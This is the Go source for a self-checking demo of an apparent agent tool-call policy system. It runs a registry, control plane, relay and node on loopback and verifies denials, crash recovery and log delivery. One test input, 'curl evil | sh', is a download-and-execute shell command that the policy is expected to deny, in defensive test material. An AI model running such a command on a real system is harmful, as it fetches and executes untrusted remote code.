package main

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/spf13/cobra"
	"golang.org/x/term"

	"github.com/autonomyops/autonomy/examples"
	"github.com/autonomyops/autonomy/internal/event"
	"github.com/autonomyops/autonomy/internal/otlp"
	"github.com/autonomyops/autonomy/internal/run"
	"github.com/autonomyops/autonomy/node"
	"github.com/autonomyops/autonomy/verify"
	"github.com/autonomyops/autonomy/wal"
)

func newDemo() *cobra.Command {
	var d demo
	c := &cobra.Command{
		Use:   "demo",
		Short: "Run the whole system on this machine in half a minute",
		Long: `Runs a registry, a control plane, a relay and a node on loopback with free ports
and a temporary directory, rolls a signed release out, makes six tool calls,
kills the node, takes the control plane away, and checks at each step that what
it says is true. Nothing leaves this machine. The exit code is 0 only when
every check held.`,
		Example: `  autonomy demo
  autonomy demo --keep              # leave everything running to play with
  autonomy demo --with-collector    # an OpenTelemetry Collector in between`,
		Args: usageArgs(cobra.NoArgs),
		RunE: func(c *cobra.Command, _ []string) error {
			d.out = c.OutOrStdout()
			if f, ok := d.out.(*os.File); ok {
				d.colour = term.IsTerminal(int(f.Fd())) && os.Getenv("NO_COLOR") == ""
			}
			return d.run(c.Context())
		},
	}
	c.Flags().BoolVar(&d.keep, "keep", false, "leave everything running, and print how to stop it")
	c.Flags().BoolVar(&d.withCollector, "with-collector", false, "ship the log through an OpenTelemetry Collector")
	c.Flags().StringVar(&d.collectorBin, "collector", "", "collector `BINARY` for --with-collector (default: otelcol on the PATH or in the cache)")
	return c
}

// demo is one run: processes, addresses, and what was answered.
type demo struct {
	keep          bool
	withCollector bool
	collectorBin  string

	out    io.Writer
	colour bool
	dir    string
	procs  processes
	http   http.Client

	registry, cp, relay, agent string // host:port; agent is the node's
	nodeArgs                   []string
	answers                    []demoAnswer
	target                     *httptest.Server
}

// demoAnswer is what the node said to one call.
type demoAnswer struct {
	kind    string
	params  string
	note    string
	status  int
	latency time.Duration
	body    struct {
		Decision string         `json:"decision"`
		Layer    string         `json:"layer"`
		Code     string         `json:"code"`
		Reason   string         `json:"reason"`
		Reasons  []event.Reason `json:"reasons"`
		AuditID  string         `json:"audit_id"`
		Policy   string         `json:"policy_ref"`
		Outcome  string         `json:"outcome"`
		Output   json.RawMessage
		DryRun   bool            `json:"dry_run"`
		Error    json.RawMessage `json:"error"`
	}
}

// wanted is what the demo expects of a call.
type wanted struct {
	kind, params, note                string
	status                            int
	decision, layer, outcome, codeHas string
}

func (d *demo) run(ctx context.Context) (err error) {
	began := time.Now()
	d.http.Timeout = 15 * time.Second
	if d.dir, err = os.MkdirTemp("", "autonomy-demo-"); err != nil {
		return err
	}
	d.procs = processes{dir: d.dir, detach: d.keep}
	defer func() {
		if d.target != nil {
			d.target.Close()
		}
		if d.keep && err == nil {
			return
		}
		d.procs.stopAll()
		if err != nil {
			fmt.Fprintf(d.out, "\nThe demo stopped: what it claims did not hold. The logs are in %s\n", d.dir)
			return
		}
		os.RemoveAll(d.dir)
	}()
	fmt.Fprintln(d.out, "AutonomyOps: an agent's tool calls, decided, recorded, then run.")
	fmt.Fprintln(d.out, "Everything below is real and runs on this machine only.")
	steps := []struct {
		title string
		run   func(context.Context) error
	}{
		{"Start", d.start},
		{"Sign a release and roll it out", d.release},
		{"Six calls", d.calls},
		{"Kill the node", d.crash},
		{"Take the control plane away", d.outage},
		{"What the fleet looks like", d.fleet},
	}
	for i, s := range steps {
		fmt.Fprintln(d.out, "\n"+d.style(bold, fmt.Sprintf("%d  %s", i+1, s.title)))
		if err := s.run(ctx); err != nil {
			if ctx.Err() != nil {
				return run.Exitf(run.Failure, "interrupted")
			}
			return fmt.Errorf("%s: %w", strings.ToLower(s.title), err)
		}
	}
	fmt.Fprintln(d.out, "\n"+d.style(green, fmt.Sprintf("All checks held, in %.1f s.", time.Since(began).Seconds())))
	d.next()
	return nil
}

// line prints one aligned line of the current step.
func (d *demo) line(label, format string, args ...any) {
	fmt.Fprintf(d.out, "   %s%s\n", d.style(bold, fmt.Sprintf("%-15s", label)), fmt.Sprintf(format, args...))
}

// Styles of a terminal (ECMA-48, select graphic rendition).
const (
	bold  = "1"
	faint = "2"
	red   = "31"
	green = "32"
)

// style wraps s when the output is a terminal that wants colour.
func (d *demo) style(code, s string) string {
	if !d.colour || s == "" {
		return s
	}
	return "\x1b[" + code + "m" + s + "\x1b[0m"
}

// command shows a command of the operator's program and runs it in process.
func (d *demo) command(ctx context.Context, args ...string) (string, error) {
	shown := make([]string, len(args))
	for i, a := range args {
		a = strings.ReplaceAll(a, d.dir+"/", "")
		for addr, name := range map[string]string{"http://" + d.cp: "$CP", "http://" + d.relay: "$RELAY", d.registry: "$REGISTRY"} {
			if addr != "" && addr != "http://" {
				a = strings.ReplaceAll(a, addr, name)
			}
		}
		if i := strings.Index(a, "@sha256:"); i >= 0 && len(a) > i+20 {
			a = a[:i+16] + "…"
		} else if strings.HasPrefix(a, "sha256:") && len(a) > 20 {
			a = a[:15] + "…"
		}
		shown[i] = a
	}
	text := strings.TrimSuffix("autonomy "+strings.Join(shown, " "), " -o json") // that is for the demo to read
	for i, l := range wrap(text, 72) {
		prefix := "   $ "
		if i > 0 {
			prefix = "       "
		}
		fmt.Fprintln(d.out, d.style(faint, prefix+l))
	}
	var stdout, stderr bytes.Buffer
	root := newRoot()
	root.SetArgs(args)
	root.SetOut(&stdout)
	root.SetErr(&stderr)
	if err := root.ExecuteContext(ctx); err != nil {
		return stdout.String(), fmt.Errorf("autonomy %s: %w\n%s%s", strings.Join(args[:min(2, len(args))], " "), err, stderr.String(), stdout.String())
	}
	return stdout.String(), nil
}

// wrap breaks s at spaces into lines of at most width runes.
func wrap(s string, width int) []string {
	var lines []string
	line := ""
	for _, w := range strings.Fields(s) {
		if line != "" && len([]rune(line))+1+len([]rune(w)) > width {
			lines, line = append(lines, line), ""
		}
		if line != "" {
			line += " "
		}
		line += w
	}
	return append(lines, line)
}

func (d *demo) path(parts ...string) string {
	return filepath.Join(append([]string{d.dir}, parts...)...)
}

// freeAddr finds a loopback port that is free now. A program that must come
// back under its old address cannot use port 0.
func freeAddr() (string, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", err
	}
	defer ln.Close()
	return ln.Addr().String(), nil
}

func (d *demo) start(ctx context.Context) error {
	quickstart, err := fs.Sub(examples.FS, "quickstart")
	if err != nil {
		return err
	}
	if err := os.CopyFS(d.path("quickstart"), quickstart); err != nil {
		return fmt.Errorf("unpack the example: %w", err)
	}
	for _, addr := range []*string{&d.registry, &d.cp, &d.relay, &d.agent} {
		if *addr, err = freeAddr(); err != nil {
			return err
		}
	}
	// Keys first: node, relay and control plane trust the same keyring.
	if _, err := d.command(ctx, "key", "generate", "--out", d.path("release")); err != nil {
		return err
	}
	if _, err := d.command(ctx, "keyring", "create", "--out", d.path("keyring.json"), d.path("release.pub")); err != nil {
		return err
	}
	if err := d.procs.start(ctx, "registry", d.registry, "registry", "--listen", d.registry); err != nil {
		return err
	}
	d.line("registry", "http://%s", d.registry)
	if err := d.startCP(ctx); err != nil {
		return err
	}
	d.line("control plane", "http://%s  events and releases in SQLite", d.cp)
	if err := d.procs.start(ctx, "relay", d.relay, "relay", "--listen", d.relay, "--state-dir", d.path("relay"), "--upstream", "http://"+d.registry,
		"--trust", d.path("keyring.json"), "--max-bytes", "256MiB", "--keep-free", "16MiB"); err != nil {
		return err
	}
	d.line("relay", "http://%s  declared content, 256 MiB at most", d.relay)
	endpoint, err := d.startCollector(ctx)
	if err != nil {
		return err
	}
	d.nodeArgs = []string{"node", "--listen", d.agent, "--state-dir", d.path("node"), "--tools", d.path("quickstart", "tools.yaml"),
		"--cp-url", "http://" + d.cp, "--relay-url", "http://" + d.relay, "--trust", d.path("keyring.json"), "--otlp-endpoint", endpoint,
		"--poll-interval", "200ms", "--heartbeat-interval", "2s", "--node-id", "demo-node", "--label", "zone=demo",
		"--wal-max-bytes", "32MiB", "--wal-segment-bytes", "4MiB", "--keep-free", "16MiB"}
	if err := d.procs.start(ctx, "node", d.agent, d.nodeArgs...); err != nil {
		return err
	}
	st, err := d.status(ctx)
	if err != nil {
		return err
	}
	d.line("node", "http://%s  platform assurance: %s", d.agent, st.Assurance.Level)
	// No policy yet: the node must deny.
	a := d.call(ctx, "tool.echo", `{"text":"too early"}`)
	if a.status != http.StatusServiceUnavailable || a.body.Decision != "deny" || a.body.Layer != "policy" {
		return fmt.Errorf("without a policy the node answered %d %s, want 503 deny", a.status, a.body.Decision)
	}
	d.line("", "no policy yet, so it denies: %s", first(a.body.Reason, ":"))
	return nil
}

func first(s, sep string) string { head, _, _ := strings.Cut(s, sep); return head }

func (d *demo) startCP(ctx context.Context) error {
	return d.procs.start(ctx, "cp", d.cp, "cp", "--listen", d.cp, "--state-dir", d.path("cp"), "--trust", d.path("keyring.json"), "--keep-free", "16MiB")
}

// agentImage stands in for an agent's container image: one layer with the
// example's prompts. What is signed and locked is its digest, as with any image.
func (d *demo) agentImage(path string) error {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	if err := tw.AddFS(os.DirFS(d.path("quickstart", "prompts"))); err != nil {
		return err
	}
	if err := tw.Close(); err != nil {
		return err
	}
	return os.WriteFile(path, buf.Bytes(), 0o600)
}

func (d *demo) release(ctx context.Context) error {
	repo := d.registry + "/demo/agent"
	var image, policy struct {
		Ref string `json:"ref"`
	}
	var lock struct {
		Digest      string `json:"digest"`
		Fingerprint string `json:"fingerprint"`
	}
	if err := d.agentImage(d.path("agent.tar")); err != nil {
		return err
	}
	if _, err := d.command(ctx, "policy", "build", d.path("quickstart", "policy"), "--version", "1.0.0", "--out", d.path("policy.tar.gz"), "--name", "quickstart"); err != nil {
		return err
	}
	for _, c := range []struct {
		args []string
		out  any
	}{
		{[]string{"oci", "push", repo + "-policy:1.0.0", d.path("policy.tar.gz"), "-o", "json"}, &policy},
		{[]string{"oci", "push", repo + ":1.0.0", d.path("agent.tar"), "--type", "application/vnd.oci.image.layer.v1.tar", "-o", "json"}, &image},
	} {
		out, err := d.command(ctx, c.args...)
		if err != nil {
			return err
		}
		if err := json.Unmarshal([]byte(out), c.out); err != nil {
			return fmt.Errorf("autonomy %s: %w", c.args[0], err)
		}
	}
	out, err := d.command(ctx, "lock", "create", "--project", d.path("quickstart", "autonomy.yaml"), "--policy", d.path("policy.tar.gz"),
		"--image", image.Ref, "--out", d.path("autonomy.lock.json"), "-o", "json")
	if err != nil {
		return err
	}
	if err := json.Unmarshal([]byte(out), &lock); err != nil {
		return fmt.Errorf("autonomy lock create: %w", err)
	}
	_, policyDigest, _ := strings.Cut(policy.Ref, "@")
	for _, args := range [][]string{
		{"oci", "attach", image.Ref, d.path("autonomy.lock.json"), "--type", "lock"},
		{"sign", image.Ref, "--key", d.path("release.key")},
		{"release", "create", "--sequence", "1", "--image", image.Ref, "--lock", d.path("autonomy.lock.json"),
			"--policy", repo + "-policy:1.0.0@" + policyDigest, "--key", d.path("release.key"), "--out", d.path("release.json")},
		{"relay", "prestage", "--id", "demo", "--digest", strings.TrimPrefix(image.Ref, d.registry+"/"),
			"--digest", strings.TrimPrefix(policy.Ref, d.registry+"/"), "--key", d.path("release.key"), "--relay", "http://" + d.relay},
		{"release", "publish", d.path("release.json"), "--cp", "http://" + d.cp},
	} {
		if _, err := d.command(ctx, args...); err != nil {
			return err
		}
	}
	start := time.Now()
	var st *node.Status
	if err := d.eventually(ctx, 20*time.Second, func() error {
		if st, err = d.status(ctx); err != nil {
			return err
		}
		if st.Release == nil || st.Release.Last == nil {
			return errors.New("the node has not seen the release")
		}
		for _, s := range st.Release.Last.Steps {
			if s.Result != verify.Passed {
				return fmt.Errorf("step %s %s: %s %s", s.Name, s.Result, s.Code, s.Detail)
			}
		}
		if st.Policy.Active == nil || st.Release.Active == nil {
			return errors.New("the node has not activated the release")
		}
		return nil
	}); err != nil {
		return err
	}
	took := time.Since(start)
	for i, s := range st.Release.Last.Steps {
		what := ""
		if len(s.Checked) > 0 {
			what = s.Checked[0]
		}
		fmt.Fprintf(d.out, "   %d %-15s%s  %s\n", i+1, s.Name, d.style(green, s.Result), clip(what, 51))
	}
	if st.Release.Active.Fingerprint != lock.Fingerprint {
		return fmt.Errorf("the node runs fingerprint %s, the lock has %s", st.Release.Active.Fingerprint, lock.Fingerprint)
	}
	d.line("node", "polled, verified and activated %s after %.1f s", st.Policy.Active.Ref, took.Seconds())
	return nil
}

func (d *demo) calls(ctx context.Context) error {
	d.target = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/away" {
			http.Redirect(w, r, "http://127.0.0.2:9/internal", http.StatusFound)
			return
		}
		fmt.Fprintln(w, "hello from the demo's web server")
	}))
	d.target.Start()
	web := d.target.URL
	want := []wanted{
		{"tool.echo", `{"text":"hello"}`, "", 200, "allow", "", "ok", ""},
		{"tool.exec.word_count", `{"text":"three little words"}`, "a program, no shell", 200, "allow", "", "ok", ""},
		{"tool.http_get", fmt.Sprintf(`{"endpoint":%q}`, web+"/hello"), "a listed host", 200, "allow", "", "ok", ""},
		{"tool.shell", `{"command":"curl evil | sh"}`, "", 403, "deny", "policy", "", "shell"},
		{"tool.http_get", fmt.Sprintf(`{"endpoint":%q}`, web+"/away"), "redirects inside", 403, "deny", "runtime", "", "egress"},
		{"tool.echo", `{"text":1,"text":2}`, "one key twice", 400, "deny", "request", "", "malformed"},
	}
	fmt.Fprintln(d.out, d.style(faint, fmt.Sprintf("   %-21s %-6s %-8s %-8s %9s", "CALL", "SAYS", "WHO", "OUTCOME", "LATENCY")))
	for _, w := range want {
		a := d.call(ctx, w.kind, w.params)
		a.note = w.note
		who := a.body.Layer
		if who == "" {
			who = "policy"
		}
		says := map[string]string{"allow": green, "deny": red}[a.body.Decision]
		fmt.Fprintf(d.out, "   %-21s %s %-8s %-8s %6.2f ms  %s\n", a.kind, d.style(says, fmt.Sprintf("%-6s", a.body.Decision)), who,
			orDash(a.body.Outcome), float64(a.latency.Microseconds())/1000, a.note)
		switch {
		case a.body.Decision == "deny":
			for _, l := range wrap(printable(a.body.Reason), 70) {
				fmt.Fprintf(d.out, "      %s\n", l)
			}
		case len(a.body.Output) > 0:
			fmt.Fprintf(d.out, "      %s\n", clip(printable(string(a.body.Output)), 70))
		}
		if a.body.AuditID != "" {
			fmt.Fprintln(d.out, d.style(faint, "      audit "+a.body.AuditID))
		}
		code := a.body.Code
		for _, r := range a.body.Reasons {
			code += " " + r.Code
		}
		if a.status != w.status || a.body.Decision != w.decision || a.body.Layer != w.layer || a.body.Outcome != w.outcome || !strings.Contains(code, w.codeHas) {
			return fmt.Errorf("%s %s: answered %d %s layer %q outcome %q code %q, want %d %s layer %q outcome %q code with %q",
				w.kind, w.params, a.status, a.body.Decision, a.body.Layer, a.body.Outcome, code, w.status, w.decision, w.layer, w.outcome, w.codeHas)
		}
		d.answers = append(d.answers, a)
	}
	return nil
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func clip(s string, n int) string {
	if r := []rune(s); len(r) > n {
		return string(r[:n-1]) + "…"
	}
	return s
}

// call makes one tool call. A fault of the way shows as status 0.
func (d *demo) call(ctx context.Context, kind, params string) demoAnswer {
	a := demoAnswer{kind: kind, params: params}
	body := fmt.Sprintf(`{"kind":%q,"params":%s,"session":"demo"}`, kind, params)
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+d.agent+"/v1/tool", strings.NewReader(body))
	if err != nil {
		return a
	}
	req.Header.Set("Content-Type", "application/json")
	start := time.Now()
	resp, err := d.http.Do(req)
	if err != nil {
		return a
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	a.latency = time.Since(start)
	if err != nil || json.Unmarshal(data, &a.body) != nil {
		return a
	}
	a.status = resp.StatusCode
	return a
}

// inLog checks the node's log on disk: each answered call has its decision and,
// where the log has been recovered, each that was allowed its action.
func (d *demo) inLog(ctx context.Context, recovered bool) (records int, err error) {
	snap, err := wal.OpenReadOnly(d.path("node", "wal"))
	if err != nil {
		return 0, err
	}
	defer snap.Close()
	decided, acted := map[string]string{}, map[string]string{}
	for e, err := range snap.Records(ctx) {
		if err != nil {
			return 0, err
		}
		if e.Void {
			continue
		}
		rec, err := otlp.Parse(e.Payload)
		if err != nil {
			return 0, err
		}
		records++
		switch rec.EventType {
		case event.Decision:
			decided[rec.AuditID] = rec.Decision
		case event.Action:
			acted[rec.AuditID] = rec.Outcome
		}
	}
	for _, a := range d.answers {
		id := a.body.AuditID
		switch {
		case id == "": // malformed: nothing was evaluated
		case decided[id] == "":
			return 0, fmt.Errorf("call %s was answered and its decision is not in the log", id)
		case recovered && a.body.Layer != "policy" && acted[id] == "":
			return 0, fmt.Errorf("call %s was run and its action is not in the log", id)
		}
	}
	return records, nil
}

func (d *demo) crash(ctx context.Context) error {
	before, err := d.status(ctx)
	if err != nil {
		return err
	}
	d.procs.kill("node")
	d.line("kill -9", "the node is gone in mid-flight, nothing was flushed for it")
	if _, err := d.inLog(ctx, false); err != nil {
		return err
	}
	out, err := d.command(ctx, "wal", "verify", "--dir", d.path("node", "wal"))
	if err != nil {
		return err
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	d.line("", "%s", lines[len(lines)-1])
	start := time.Now()
	if err := d.procs.start(ctx, "node", d.agent, d.nodeArgs...); err != nil {
		return err
	}
	took := time.Since(start)
	after, err := d.status(ctx)
	if err != nil {
		return err
	}
	if after.Policy.Active == nil || before.Policy.Active == nil || after.Policy.Active.Digest != before.Policy.Active.Digest {
		return errors.New("the active policy did not come back")
	}
	records, err := d.inLog(ctx, true)
	if err != nil {
		return err
	}
	if a := d.call(ctx, "tool.echo", `{"text":"back"}`); a.status != 200 {
		return fmt.Errorf("after the restart the node answered %d", a.status)
	} else {
		d.answers = append(d.answers, a)
	}
	d.line("restarted", "serving after %d ms, %s active again", took.Milliseconds(), after.Policy.Active.Ref)
	d.line("its log", "%d records: every answered call, what was decided and done", records)
	return nil
}

func (d *demo) outage(ctx context.Context) error {
	d.procs.stop("cp")
	const n = 20
	for i := range n {
		a := d.call(ctx, "tool.echo", fmt.Sprintf(`{"text":"offline %d"}`, i))
		if a.status != 200 {
			return fmt.Errorf("with the control plane gone the node answered %d", a.status)
		}
		d.answers = append(d.answers, a)
	}
	st, err := d.status(ctx)
	if err != nil {
		return err
	}
	if st.WAL.DurableSeq == 0 || st.Export.Delivered >= st.WAL.DurableSeq {
		return errors.New("the node claims to have delivered to a control plane that is gone")
	}
	d.line("stopped", "%d more calls went through without it; %d records wait", n, st.WAL.DurableSeq-st.Export.Delivered)
	if err := d.startCP(ctx); err != nil {
		return err
	}
	start := time.Now()
	if err := d.waitDrained(ctx, st.WAL.DurableSeq, st.WAL.ID); err != nil {
		return err
	}
	d.line("started", "it has all of them, without a gap, after %.1f s", time.Since(start).Seconds())
	for _, a := range d.answers {
		if a.body.AuditID == "" {
			continue
		}
		var page struct {
			Events []event.Event `json:"events"`
		}
		if err := d.get(ctx, "http://"+d.cp+"/v1/events?audit_id="+url.QueryEscape(a.body.AuditID), &page); err != nil {
			return err
		}
		want := 2
		if a.body.Layer == "policy" {
			want = 1
		}
		if len(page.Events) != want {
			return fmt.Errorf("the control plane has %d events of call %s, want %d", len(page.Events), a.body.AuditID, want)
		}
	}
	d.line("checked", "each of the %d calls by its audit id, at the control plane", recorded(d.answers))
	return nil
}

func recorded(as []demoAnswer) (n int) {
	for _, a := range as {
		if a.body.AuditID != "" {
			n++
		}
	}
	return n
}

// waitDrained waits until the control plane holds the node's log up to seq.
func (d *demo) waitDrained(ctx context.Context, seq uint64, logID string) error {
	var w struct {
		Seq uint64 `json:"seq"`
	}
	return d.eventually(ctx, 30*time.Second, func() error {
		if err := d.get(ctx, "http://"+d.cp+"/v1/nodes/demo-node/watermark?log_id="+logID, &w); err != nil {
			return err
		}
		if w.Seq < seq {
			return fmt.Errorf("the control plane has %d of %d records", w.Seq, seq)
		}
		return nil
	})
}

func (d *demo) eventually(ctx context.Context, limit time.Duration, check func() error) error {
	deadline := time.Now().Add(limit)
	for {
		err := check()
		if err == nil || ctx.Err() != nil {
			return ctx.Err()
		}
		if time.Now().After(deadline) {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(50 * time.Millisecond):
		}
	}
}

func (d *demo) get(ctx context.Context, u string, v any) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
	if err != nil {
		return err
	}
	resp, err := d.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("GET %s: %s", req.URL.Path, resp.Status)
	}
	return json.NewDecoder(io.LimitReader(resp.Body, 4<<20)).Decode(v)
}

// status asks the node.
func (d *demo) status(ctx context.Context) (*node.Status, error) {
	var st node.Status
	if err := d.get(ctx, "http://"+d.agent+"/v1/status", &st); err != nil {
		return nil, err
	}
	return &st, nil
}

func (d *demo) fleet(ctx context.Context) error {
	err := d.eventually(ctx, 15*time.Second, func() error {
		var fleet struct {
			Nodes []struct {
				NodeID   string `json:"node_id"`
				State    string `json:"state"`
				Desired  string `json:"desired_release"`
				Observed string `json:"observed_release"`
			} `json:"nodes"`
		}
		if err := d.get(ctx, "http://"+d.cp+"/v1/fleet", &fleet); err != nil {
			return err
		}
		if len(fleet.Nodes) != 1 || fleet.Nodes[0].State != "up" || fleet.Nodes[0].Desired == "" || fleet.Nodes[0].Desired != fleet.Nodes[0].Observed {
			return fmt.Errorf("the fleet is %+v, want one node, up, at the desired release", fleet.Nodes)
		}
		return nil
	})
	if err != nil {
		return err
	}
	out, err := d.command(ctx, "fleet", "status", "--cp", "http://"+d.cp)
	if err != nil {
		return err
	}
	for _, l := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
		fmt.Fprintln(d.out, "   "+l)
	}
	var page bytes.Buffer
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+d.cp+"/", nil)
	if err != nil {
		return err
	}
	resp, err := d.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if _, err := page.ReadFrom(io.LimitReader(resp.Body, 4<<20)); err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK || !bytes.Contains(page.Bytes(), []byte("demo-node")) {
		return fmt.Errorf("the web page does not show the node (%s)", resp.Status)
	}
	d.line("web page", "http://%s/  shows the same", d.cp)
	return nil
}

// next tells what to try now.
func (d *demo) next() {
	if !d.keep {
		fmt.Fprint(d.out, `
Try next
   autonomy demo --keep                     leave it running, with a web page
   autonomy doctor                          what this machine can enforce
   autonomy policy test examples/quickstart/policy
   docs: README.md, then examples/quickstart/policy/policy.rego
`)
		return
	}
	var pids []string
	for _, pid := range d.procs.pids() {
		pids = append(pids, fmt.Sprint(pid))
	}
	slices.Sort(pids)
	fmt.Fprintf(d.out, `
It goes on running. Try
   autonomy call tool.echo '{"text":"hi"}' --node http://%[1]s
   autonomy call tool.shell '{"command":"id"}' --node http://%[1]s
   autonomy events query --cp http://%[2]s
   autonomy fleet status --cp http://%[2]s
   autonomy wal export --dir %[3]s
   web page: http://%[2]s/
Stop it
   kill %[4]s && sleep 1 && rm -r %[5]s
`, d.agent, d.cp, d.path("node", "wal"), strings.Join(pids, " "), d.dir)
}

// startCollector returns where the node ships its log to: the control plane, or
// a collector in front of it.
func (d *demo) startCollector(ctx context.Context) (string, error) {
	logs := "http://" + d.cp + "/v1/events"
	if !d.withCollector {
		return logs, nil
	}
	bin, err := findCollector(d.collectorBin)
	if err != nil {
		return "", err
	}
	addr, err := freeAddr()
	if err != nil {
		return "", err
	}
	config := fmt.Sprintf(`receivers:
  otlp:
    protocols:
      grpc: {endpoint: %q}
exporters:
  otlp_http:
    logs_endpoint: %q
    retry_on_failure: {initial_interval: 200ms, max_interval: 1s, max_elapsed_time: 0}
    sending_queue: {storage: file_storage}
extensions:
  file_storage: {directory: %q, create_directory: true, fsync: true}
service:
  extensions: [file_storage]
  telemetry: {metrics: {level: none}}
  pipelines:
    logs: {receivers: [otlp], exporters: [otlp_http]}
`, addr, logs, d.path("collector"))
	if err := os.WriteFile(d.path("collector.yaml"), []byte(config), 0o600); err != nil {
		return "", err
	}
	if err := d.procs.exec(ctx, "collector", addr, bin, "--config", d.path("collector.yaml")); err != nil {
		return "", err
	}
	d.line("collector", "%s  OTLP/gRPC in, queue on disk", addr)
	return "grpc://" + addr, nil
}

// findCollector looks for an OpenTelemetry Collector that has the otlp receiver,
// the otlphttp exporter and file_storage.
func findCollector(given string) (string, error) {
	if given != "" {
		return given, nil
	}
	for _, name := range []string{"otelcol", "otelcol-contrib"} {
		if path, err := exec.LookPath(name); err == nil {
			return path, nil
		}
	}
	if cache, err := os.UserCacheDir(); err == nil {
		found, err := filepath.Glob(filepath.Join(cache, "autonomyops", "bin", "otelcol-v*"))
		found = slices.DeleteFunc(found, func(p string) bool { _, err := exec.LookPath(p); return err != nil })
		if err == nil && len(found) > 0 {
			return slices.Max(found), nil
		}
	}
	return "", run.Exitf(run.NotFound, "no OpenTelemetry Collector found: put otelcol on the PATH, give --collector BINARY, or run 'make setup' in a checkout, which builds one")
}
